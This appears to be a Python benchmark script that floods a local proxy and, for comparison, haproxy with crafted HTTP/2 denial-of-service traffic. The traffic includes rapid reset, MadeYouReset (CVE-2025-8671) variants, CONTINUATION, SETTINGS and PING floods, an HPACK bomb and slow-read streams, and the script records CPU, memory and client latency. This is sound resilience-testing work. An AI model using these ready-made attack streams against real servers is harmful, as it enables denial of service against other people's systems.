#!/usr/bin/env python3
"""What attacks over HTTP/2 cost, beside haproxy on the same attack.

    make attacks                                        # every attack
    make attacks ATTACKARGS="--only ping,settings"

A proxy with one worker is attacked over one connection after the other for a few seconds or megabytes, whichever is less, while
an honest client asks all the time on a connection of its own. Columns: CPU seconds a megabyte of attack (what the proxy still has to
do when the attack is over counts too), connections that it took, memory at the peak above that before, and the longest answer that
the honest client waited for. Attacks that hold something (`window`, `slow`, `upload`) have 2,000 streams; their CPU is not by the
megabyte. A row fails above LIMITS where haproxy's is below it.
"""
import argparse
import select
import socket
import struct
import sys
import threading
import time

from common import Bench, cpu_seconds, log_sink, rss_kib

ORIGIN, LOG_PORT = 9831, 9839
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST, SETTINGS, PUSH, PING, GOAWAY, WINDOW, CONTINUATION = range(10)
END_STREAM, END_HEADERS = 1, 4
MEGABYTES = 64


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def text(t):
    n = len(t)
    if n < 127:
        return bytes([n]) + t
    out, n = bytes([127]), n - 127
    while n >= 128:
        out, n = out + bytes([n & 127 | 128]), n >> 7
    return out + bytes([n]) + t


def literal(name, value, indexed=False):
    return (b"\x40" if indexed else b"\0") + text(name) + text(value)


# :method GET, :scheme http, :path /, :authority a
GET = b"\x82\x86\x84" + b"\x41" + text(b"a")
POST = b"\x83\x86\x84" + b"\x41" + text(b"a")


def begin(*settings):
    return PREFACE + frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", *s) for s in settings))


def streams(make, first=b"", count=4000):
    """The beginning of a connection, and an attack that goes on with new streams."""
    return begin() + first + b"".join(make(2 * n + 1) for n in range(count))


def repeated(one, first=b"", size=8 << 20):
    return begin() + first + one * (size // len(one))


def bomb():
    """A field of 4,000 bytes goes into the table; blocks then name it again and again."""
    fill = literal(b"x", b"v" * 3900, True)
    first = frame(HEADERS, END_HEADERS | END_STREAM, 1, GET + fill)
    return begin() + first + b"".join(frame(HEADERS, END_HEADERS | END_STREAM, 2 * n + 3, GET + b"\xbe" * 16000) for n in range(500))


ATTACKS = {
    "rapid-reset": streams(lambda s: frame(HEADERS, 5, s, GET) + frame(RST, 0, s, b"\0\0\0\x08")),
    # answers that the attacker makes the proxy reset (CVE-2025-8671), in three ways
    "made-you-reset": streams(lambda s: frame(HEADERS, 5, s, GET) + frame(WINDOW, 0, s, bytes(4))),
    "made-you-reset-2": streams(lambda s: frame(HEADERS, 5, s, GET) + frame(WINDOW, 0, s, b"\x7f\xff\xff\xff") * 2),
    "made-you-reset-3": streams(lambda s: frame(HEADERS, 4, s, POST + literal(b"content-length", b"1")) + frame(DATA, 1, s, b"ab")),
    "continuation": begin() + frame(HEADERS, END_STREAM, 1, GET) + frame(CONTINUATION, 0, 1, literal(b"a", b"b" * 16000)) * 512,
    "continuation-small": begin() + frame(HEADERS, END_STREAM, 1, GET) + frame(CONTINUATION, 0, 1, literal(b"a", b"b")) * 400_000,
    "continuation-empty": begin() + frame(HEADERS, END_STREAM, 1, GET) + frame(CONTINUATION, 0, 1) * 400_000,
    "settings": repeated(frame(SETTINGS, 0, 0)),
    "settings-many": repeated(frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535) * 2000)),
    "settings-window": repeated(frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 1) + struct.pack(">HI", 4, 2)),
                                b"".join(frame(HEADERS, 4, 2 * n + 1, POST) for n in range(100))),
    "ping": repeated(frame(PING, 0, 0, bytes(8))),
    "priority": repeated(frame(PRIORITY, 0, 1, b"\0\0\0\x03\x10")),
    "window-update": repeated(frame(WINDOW, 0, 0, b"\0\0\0\x01")),
    "unknown": repeated(frame(77, 0, 0)),
    "empty-data": repeated(frame(DATA, 0, 1), frame(HEADERS, 4, 1, POST)),
    "padding": repeated(frame(DATA, 8, 1, b"\xff" + bytes(255)), frame(HEADERS, 4, 1, POST)),
    "tiny-data": repeated(frame(DATA, 0, 1, b"x"), frame(HEADERS, 4, 1, POST), 600_000),
    "tiny-fields": streams(lambda s: frame(HEADERS, 5, s, GET + literal(b"a", b"") * 4000), b"", 600),
    "hpack-bomb": bomb(),
    "hpack-table": streams(lambda s: frame(HEADERS, 5, s, b"\x3f\xe1\x1f\x20" * 3000), b"", 600),
    "no-request": streams(lambda s: frame(HEADERS, 5, s, literal(b"x", b"y"))),
    "too-many": streams(lambda s: frame(HEADERS, 4, s, POST)),
}
# name: (settings, what each stream says): held open with windows of nothing
HELD = {
    "window": ((4, 0), lambda s: frame(HEADERS, 5, s, b"\x82\x86\x41" + text(b"a") + b"\x44" + text(b"/1m"))),
    "slow": ((4, 1 << 20), lambda s: frame(HEADERS, 5, s, b"\x82\x86\x41" + text(b"a") + b"\x44" + text(b"/1m"))),
    "upload": ((4, 65535), lambda s: frame(HEADERS, 4, s, POST) + frame(DATA, 0, s, bytes(600))),
}
# CPU seconds a megabyte, MiB at the peak, seconds that an honest client waits
LIMITS = (0.25, 64, 1.0)


def config(port):
    return f"""
global
    nbthread 1
    maxconn 4000
    log 127.0.0.1:{LOG_PORT} local0
defaults
    mode http
    log global
    option httplog
    timeout connect 5s
    timeout client 20s
    timeout server 20s
frontend fe
    bind 127.0.0.1:{port} proto h2
    default_backend be
backend be
    http-reuse always
    server s1 127.0.0.1:{ORIGIN}
"""


class Honest(threading.Thread):
    """Asks over and over on one connection; the longest wait for an answer."""

    def __init__(self, port):
        super().__init__(daemon=True)
        self.port, self.over, self.longest, self.answers = port, False, 0.0, 0

    def run(self):
        s = socket.create_connection(("127.0.0.1", self.port))
        s.settimeout(10)
        s.sendall(begin() + frame(SETTINGS, 1, 0) + frame(WINDOW, 0, 0, b"\x3f\xff\xff\xff"))
        stream, waiting = 1, b""
        while not self.over:
            began = time.monotonic()
            s.sendall(frame(HEADERS, 5, stream, GET))
            done = False
            while not done:
                try:
                    got = s.recv(65536)
                except TimeoutError:
                    got = b""
                if not got:
                    self.longest = float("inf")
                    return
                waiting += got
                while len(waiting) >= 9 and len(waiting) >= 9 + (n := int.from_bytes(waiting[:3], "big")):
                    kind, flags, of = waiting[3], waiting[4], int.from_bytes(waiting[5:9], "big")
                    waiting = waiting[9 + n :]
                    done |= of == stream and kind in (DATA, HEADERS) and flags & 1 == 1
            self.longest = max(self.longest, time.monotonic() - began)
            self.answers += 1
            stream += 2
            time.sleep(0.02)


class Peak(threading.Thread):
    """The most memory that a process had."""

    def __init__(self, session):
        super().__init__(daemon=True)
        self.session, self.over = session, False
        self.before = self.most = rss_kib(session)

    def run(self):
        while not self.over:
            self.most = max(self.most, rss_kib(self.session))
            time.sleep(0.02)


def attack(port, bytes_, secs):
    """Sends over and over until time or megabytes are used up; what was sent, and over how many connections."""
    sent = conns = 0
    until = time.monotonic() + secs
    while time.monotonic() < until and sent < MEGABYTES << 20:
        try:
            s = socket.create_connection(("127.0.0.1", port), 2)
        except OSError:
            continue
        conns += 1
        s.setblocking(False)
        view = memoryview(bytes_)
        while time.monotonic() < until and sent < MEGABYTES << 20:
            readable, writable, _ = select.select([s], [s] if len(view) else [], [], 0.2)
            try:
                if readable and not s.recv(1 << 20):
                    break
                if writable:
                    n = s.send(view[: 1 << 18])
                    view, sent = view[n:], sent + n
            except BlockingIOError:
                pass
            except OSError:
                break
            if not len(view) and not readable:
                break
        s.close()
    return sent, conns


def hold(port, held, secs):
    """Opens 20 connections of 100 streams and takes nothing; how many there were."""
    settings, make = held
    conns = []
    for _ in range(20):
        s = socket.create_connection(("127.0.0.1", port), 2)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        s.setblocking(False)
        try:
            s.send(begin(settings) + frame(SETTINGS, 1, 0) + frame(WINDOW, 0, 0, b"\x3f\xff\xff\xff") + b"".join(make(2 * n + 1) for n in range(100)))
        except OSError:
            pass
        conns.append(s)
    time.sleep(secs)
    for s in conns:
        s.close()
    return 2000


def quiet(session, patience=10):
    """Waits until a process has nothing to do but for the honest client."""
    until, before = time.monotonic() + patience, cpu_seconds(session)
    while time.monotonic() < until:
        time.sleep(0.1)
        now = cpu_seconds(session)
        if now - before < 0.01:
            return
        before = now


def measure(name, session, port, secs):
    honest, peak, before = Honest(port), Peak(session), cpu_seconds(session)
    honest.start()
    peak.start()
    if name in ATTACKS:
        sent, conns = attack(port, ATTACKS[name], secs)
    else:
        sent, conns = hold(port, HELD[name], secs), 20
    quiet(session)
    honest.over = peak.over = True
    used = cpu_seconds(session) - before
    honest.join(12)
    return {"cpu": used, "sent": sent, "conns": conns, "mib": (peak.most - peak.before) / 1024, "wait": honest.longest}


def main():
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--binary", required=True)
    ap.add_argument("--ref", default="haproxy")
    ap.add_argument("--only", help="names, with commas")
    ap.add_argument("--secs", type=float, default=2)
    a = ap.parse_args()
    names = a.only.split(",") if a.only else [*ATTACKS, *HELD]
    failed = []
    with Bench() as bench:
        sink = log_sink(LOG_PORT)
        bench.origin([ORIGIN])
        print(f"{'attack':20} {'CPU s/MB':>9} {'haproxy':>9} {'conns':>6} {'haproxy':>7} {'MiB':>6} {'haproxy':>7} {'wait s':>7} {'haproxy':>7}")
        for name in names:
            row = []
            for which, binary, port in (("ours", a.binary, 9832), ("ref", a.ref, 9833)):
                # a process of its own for each: memory is counted from its beginning
                p = bench.start([binary, "-db", "-f", bench.write(f"{which}.cfg", config(port))], "0")
                bench.wait_port(port, p)
                row.append(measure(name, p.pid, port, a.secs))
                bench.stop(p)
            ours, ref = row
            each = lambda r: r["cpu"] / max(r["sent"] / 1e6, 0.01) if name in ATTACKS else r["cpu"]
            bad = each(ours) > max(LIMITS[0], each(ref)) or ours["mib"] > max(LIMITS[1], ref["mib"]) or ours["wait"] > max(LIMITS[2], ref["wait"])
            failed += [name] * bad
            print(f"{name:20} {each(ours):9.4f} {each(ref):9.4f} {ours['conns']:6} {ref['conns']:7} {ours['mib']:6.1f} {ref['mib']:7.1f} "
                  f"{ours['wait']:7.3f} {ref['wait']:7.3f}{'  FAIL' if bad else ''}", flush=True)
        sink.close()
    print(f"make attacks: {len(names) - len(failed)} passed, {len(failed)} failed")
    sys.exit(bool(failed))


if __name__ == "__main__":
    main()
